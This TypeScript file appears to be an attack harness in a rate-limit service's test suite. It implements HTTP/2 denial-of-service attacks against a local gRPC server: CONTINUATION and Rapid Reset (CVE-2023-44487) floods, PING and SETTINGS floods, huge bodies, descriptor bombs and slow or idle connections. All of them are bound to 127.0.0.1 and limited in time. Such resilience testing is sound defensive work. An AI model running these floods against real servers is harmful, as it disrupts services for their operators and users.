/**
 * Attacks on a gRPC service over HTTP/2, for the rate-limit service's attack suite; run as its own process
 * (`node --import tsx rls-attacker.ts ATTACK PORT DURATION_MS`) so that its work does not slow the probes
 * the suite makes meanwhile. Every attack goes to 127.0.0.1 only, stops by itself at the duration (and at
 * a count), closes what it opened, and prints one line of JSON: what it sent and what the server did.
 *
 * Frames a well-behaved client would never send are written by hand (h2-frames.ts); the rest goes through
 * node:http2's client, which keeps to flow control as a real attacker would to get bytes accepted.
 */
import http2 from 'node:http2';
import net from 'node:net';
import {
  Flag,
  frame,
  FrameType,
  literalHeaderBlock,
  PREFACE,
  rstStreamFrame,
  settingsFrame,
} from './h2-frames';

const [attack, portArg, durationArg] = process.argv.slice(2);
const port = Number(portArg);
const durationMs = Number(durationArg);
const deadline = performance.now() + durationMs;
const timeLeft = () => deadline - performance.now();
const PATH = '/envoy.service.ratelimit.v3.RateLimitService/ShouldRateLimit';
const NGHTTP2_CANCEL = 8;

const CALL_HEADERS = literalHeaderBlock([
  [':method', 'POST'],
  [':scheme', 'http'],
  [':path', PATH],
  [':authority', `127.0.0.1:${port}`],
  ['content-type', 'application/grpc'],
  ['te', 'trailers'],
]);

/** What the server did to the attack's connections. */
const seen = {
  connections: 0,
  /** Connections the server closed (or reset) before the attack let go of them. */
  closedByServer: 0,
  /** GOAWAY error codes received, by code. */
  goaway: {} as Record<string, number>,
  bytesSent: 0,
  framesReceived: 0,
};

/**
 * A raw connection that has sent the preface and an empty SETTINGS. Frames received are walked only far
 * enough to count them and note GOAWAY codes.
 */
class Raw {
  readonly socket: net.Socket;
  closed = false;
  private byUs = false;
  private pending = Buffer.alloc(0);
  readonly ready: Promise<void>;

  constructor(opts: { read?: boolean; preface?: boolean } = {}) {
    seen.connections++;
    this.socket = net.connect(port, '127.0.0.1');
    this.socket.setNoDelay(true);
    this.socket.on('error', () => undefined);
    this.socket.once('close', () => {
      this.closed = true;
      if (!this.byUs) seen.closedByServer++;
    });
    if (opts.read !== false) this.socket.on('data', (d: Buffer) => this.scan(d));
    this.ready = new Promise((resolve) => {
      this.socket.once('connect', () => resolve());
      this.socket.once('close', () => resolve());
    });
    if (opts.preface !== false) this.write(Buffer.concat([PREFACE, settingsFrame()]));
  }

  /** Writes and waits for the socket to take more (false once the connection is gone). */
  async send(data: Buffer): Promise<boolean> {
    if (this.closed) return false;
    seen.bytesSent += data.length;
    if (this.socket.write(data)) return true;
    // A server that stops reading is waited for only until the attack's time is up.
    await new Promise<void>((resolve) => {
      const timer = setTimeout(done, Math.max(0, timeLeft()));
      const socket = this.socket;
      function done() {
        clearTimeout(timer);
        socket.off('drain', done);
        socket.off('close', done);
        resolve();
      }
      socket.on('drain', done);
      socket.on('close', done);
    });
    return !this.closed && timeLeft() > 0;
  }

  write(data: Buffer): void {
    if (this.closed) return;
    seen.bytesSent += data.length;
    this.socket.write(data);
  }

  destroy(): void {
    if (!this.closed) this.byUs = true;
    this.socket.destroy();
  }

  private scan(data: Buffer): void {
    let buf = this.pending.length ? Buffer.concat([this.pending, data]) : data;
    while (buf.length >= 9) {
      const length = buf.readUIntBE(0, 3);
      if (buf.length < 9 + length) break;
      seen.framesReceived++;
      if (buf[3] === FrameType.GOAWAY && length >= 8) {
        const code = String(buf.readUInt32BE(9 + 4));
        seen.goaway[code] = (seen.goaway[code] ?? 0) + 1;
      }
      buf = buf.subarray(9 + length);
    }
    this.pending = Buffer.from(buf);
  }
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** Runs `one` on fresh connections, one after another, until the time is up. */
async function repeatUntilDeadline(one: () => Promise<void>): Promise<void> {
  while (timeLeft() > 0) await one();
}

/** A gRPC call over a node:http2 session with this request message; resolves with its grpc-status. */
function grpcCall(session: http2.ClientHttp2Session, message: Buffer, writeChunk?: number): Promise<string> {
  return new Promise((resolve) => {
    let status = 'none';
    const req = session.request({ ':method': 'POST', ':path': PATH, 'content-type': 'application/grpc' });
    const take = (h: http2.IncomingHttpHeaders) => {
      if (h['grpc-status'] !== undefined) status = String(h['grpc-status']);
    };
    req.on('response', take);
    req.on('trailers', take);
    req.on('error', () => undefined);
    // node:http2's client can keep a stream open for ever when the server answers and resets it while the
    // client still has a body to send (the server has let go of it); such a call is given up on here.
    const timer = setTimeout(
      () => {
        resolve('abandoned');
        req.destroy();
      },
      Math.max(0, Math.min(2000, timeLeft())),
    );
    req.on('close', () => {
      clearTimeout(timer);
      resolve(status);
    });
    req.resume();
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(message.length, 1);
    if (writeChunk === undefined) {
      seen.bytesSent += 5 + message.length;
      req.end(Buffer.concat([prefix, message]));
      return;
    }
    // A large body written as flow control lets it through, until the server ends the call.
    void (async () => {
      req.write(prefix);
      for (let at = 0; at < message.length && !req.closed && timeLeft() > 0; at += writeChunk) {
        const chunk = message.subarray(at, at + writeChunk);
        seen.bytesSent += chunk.length;
        if (!req.write(chunk) && !req.closed)
          await new Promise<void>((r) => {
            const timer = setTimeout(done, Math.max(0, timeLeft()));
            function done() {
              clearTimeout(timer);
              req.off('drain', done);
              req.off('close', done);
              r();
            }
            req.on('drain', done);
            req.on('close', done);
          });
      }
      if (!req.closed) req.end();
    })();
  });
}

function connectClient(): http2.ClientHttp2Session {
  seen.connections++;
  const session = http2.connect(`http://127.0.0.1:${port}`, { settings: { initialWindowSize: 1 << 20 } });
  session.on('error', () => undefined);
  return session;
}

/** Counts of each status across calls. */
const statuses: Record<string, number> = {};
const count = (status: string) => (statuses[status] = (statuses[status] ?? 0) + 1);

/** `parallel` loops of calls over `sessions` connections until the time (or `maxCalls`) is up. */
async function callLoop(
  message: (i: number) => Buffer,
  options: { sessions: number; parallel: number; maxCalls: number; writeChunk?: number },
): Promise<void> {
  const sessions = Array.from({ length: options.sessions }, connectClient);
  let next = 0;
  await Promise.all(
    Array.from({ length: options.parallel }, async (_, lane) => {
      while (timeLeft() > 0 && next < options.maxCalls) {
        const i = next++;
        let session = sessions[lane % sessions.length]!;
        if (session.closed || session.destroyed) {
          seen.closedByServer++;
          session = sessions[lane % sessions.length] = connectClient();
        }
        count(await grpcCall(session, message(i), options.writeChunk));
      }
    }),
  );
  for (const s of sessions) s.destroy();
}

/** Protobuf: a length-delimited field. */
const field = (tag: number, body: Buffer) => {
  const len: number[] = [];
  let n = body.length;
  while (n >= 0x80) {
    len.push((n & 0x7f) | 0x80);
    n >>>= 7;
  }
  len.push(n);
  return Buffer.concat([Buffer.from([tag, ...len]), body]);
};
const str = (tag: number, s: string) => field(tag, Buffer.from(s, 'utf8'));
/** A RateLimitRequest: domain `governor`, one descriptor of one entry. */
const rlsRequest = (key: string, value: string) =>
  Buffer.concat([
    str(0x0a, 'governor'),
    field(0x12, field(0x0a, Buffer.concat([str(0x0a, key), str(0x12, value)]))),
  ]);

const attacks: Record<string, () => Promise<void>> = {
  /** HEADERS without END_HEADERS, then empty CONTINUATION frames without end. */
  async continuation() {
    const empties = Buffer.concat(Array.from({ length: 4096 }, () => frame(FrameType.CONTINUATION, 0, 1)));
    await repeatUntilDeadline(async () => {
      const c = new Raw();
      await c.ready;
      c.write(frame(FrameType.HEADERS, 0, 1, CALL_HEADERS.subarray(0, 8)));
      while (timeLeft() > 0 && (await c.send(empties)));
      c.destroy();
    });
  },

  /** A call's HEADERS then RST_STREAM(CANCEL), on stream after stream (CVE-2023-44487). */
  async rapidReset() {
    await repeatUntilDeadline(async () => {
      const c = new Raw();
      await c.ready;
      let id = 1;
      while (timeLeft() > 0 && id < 2 ** 31 - 1000) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 200; i++, id += 2)
          batch.push(
            frame(FrameType.HEADERS, Flag.END_HEADERS, id, CALL_HEADERS),
            rstStreamFrame(id, NGHTTP2_CANCEL),
          );
        if (!(await c.send(Buffer.concat(batch)))) break;
      }
      c.destroy();
    });
  },

  /** PINGs as fast as they go: on one connection the answers are read, on another never. */
  async ping() {
    const pings = Buffer.concat(
      Array.from({ length: 4096 }, () => frame(FrameType.PING, 0, 0, Buffer.alloc(8))),
    );
    await Promise.all(
      [true, false].map((read) =>
        repeatUntilDeadline(async () => {
          const c = new Raw({ read });
          if (!read) c.socket.pause();
          await c.ready;
          while (timeLeft() > 0 && (await c.send(pings)));
          c.destroy();
        }),
      ),
    );
  },

  /**
   * SETTINGS as fast as they go, each changing the initial window size, on a connection with calls open
   * (each change must be applied to every open stream's window); answers read on one connection, not on
   * another.
   */
  async settings() {
    const flood = Buffer.concat(
      Array.from({ length: 2048 }, (_, i) => settingsFrame([[0x4, 65_535 + (i % 2)]])),
    );
    await Promise.all(
      [true, false].map((read) =>
        repeatUntilDeadline(async () => {
          const c = new Raw({ read });
          if (!read) c.socket.pause();
          await c.ready;
          const open: Buffer[] = [];
          for (let id = 1; id < 2 * 200; id += 2)
            open.push(frame(FrameType.HEADERS, Flag.END_HEADERS, id, CALL_HEADERS));
          c.write(Buffer.concat(open));
          while (timeLeft() > 0 && (await c.send(flood)));
          c.destroy();
        }),
      ),
    );
  },

  /**
   * Many MB on one stream: through a client keeping to flow control (the server must end the call), and
   * raw DATA frames ignoring it (the server must end the connection).
   */
  async largeBody() {
    const body = Buffer.alloc(64 * 1024 * 1024, 0x41);
    const raw = repeatUntilDeadline(async () => {
      const c = new Raw();
      await c.ready;
      c.write(frame(FrameType.HEADERS, Flag.END_HEADERS, 1, CALL_HEADERS));
      const data = frame(FrameType.DATA, 0, 1, body.subarray(0, 16_384));
      const batch = Buffer.concat(Array.from({ length: 64 }, () => data));
      for (let sent = 0; sent < 256 && timeLeft() > 0 && (await c.send(batch)); sent++);
      c.destroy();
    });
    await Promise.all([
      raw,
      callLoop(() => body, { sessions: 1, parallel: 1, maxCalls: 1000, writeChunk: 1 << 20 }),
    ]);
  },

  /** 100 streams at once on one connection, each writing 4 MiB. */
  async manyBodies() {
    const body = Buffer.alloc(4 * 1024 * 1024, 0x42);
    await callLoop(() => body, { sessions: 1, parallel: 100, maxCalls: 5000, writeChunk: 256 * 1024 });
  },

  /**
   * Requests of nothing but empty descriptors: one just under 64 KiB (over 32,000 descriptors), one of
   * 4 MB (two million).
   */
  async descriptors() {
    const small = Buffer.alloc(64 * 1024 - 6);
    for (let i = 0; i + 1 < small.length; i += 2) small[i] = 0x12;
    const huge = Buffer.alloc(4_000_000);
    for (let i = 0; i < huge.length; i += 2) huge[i] = 0x12;
    await callLoop((i) => (i % 8 === 7 ? huge : small), {
      sessions: 4,
      parallel: 32,
      maxCalls: 200_000,
      writeChunk: 1 << 20,
    });
  },

  /** Calls whose descriptor values are all different. */
  async uniqueValues() {
    const salt = process.pid.toString(36);
    await callLoop((i) => rlsRequest('generic_key', `unique-${salt}-${i}-${'v'.repeat(200)}`), {
      sessions: 4,
      parallel: 64,
      maxCalls: 200_000,
    });
  },

  /**
   * Thousands of connections that do nothing after the preface, and hundreds that trickle: half a
   * preface a byte a second, or a call's header block a CONTINUATION frame of one byte a second. Held
   * until the server closes them or the time is up.
   */
  async connections() {
    const idle: Raw[] = [];
    for (let i = 0; i < 2500 && timeLeft() > 0; i++) {
      idle.push(new Raw());
      if (i % 250 === 249) await sleep(20);
    }
    const slow: Raw[] = [];
    for (let i = 0; i < 300; i++) slow.push(new Raw({ preface: false }));
    await Promise.all(slow.map((c) => c.ready));
    let tick = 0;
    while (timeLeft() > 0 && [...idle, ...slow].some((c) => !c.closed)) {
      for (const [i, c] of slow.entries()) {
        if (c.closed) continue;
        if (i % 2 === 0) {
          // Half a preface, one byte a tick.
          if (tick < 12) c.write(PREFACE.subarray(tick, tick + 1));
        } else if (tick === 0) {
          c.write(
            Buffer.concat([
              PREFACE,
              settingsFrame(),
              frame(FrameType.HEADERS, 0, 1, CALL_HEADERS.subarray(0, 1)),
            ]),
          );
        } else if (tick < CALL_HEADERS.length) {
          c.write(frame(FrameType.CONTINUATION, 0, 1, CALL_HEADERS.subarray(tick, tick + 1)));
        }
      }
      tick++;
      await sleep(Math.min(1000, Math.max(0, timeLeft())));
    }
    const open = [...idle, ...slow].filter((c) => !c.closed).length;
    Object.assign(seen, { idle: idle.length, slow: slow.length, stillOpenAtEnd: open });
    for (const c of [...idle, ...slow]) c.destroy();
  },
};

const run = attacks[attack ?? ''];
if (!run || !(port > 0) || !(durationMs > 0)) {
  console.error(`usage: rls-attacker.ts (${Object.keys(attacks).join('|')}) PORT DURATION_MS`);
  process.exit(2);
}
const started = performance.now();
await run();
// Let the last closes be noticed, then report.
await sleep(100);
console.log(JSON.stringify({ attack, ms: Math.round(performance.now() - started), ...seen, statuses }));
process.exit(0);
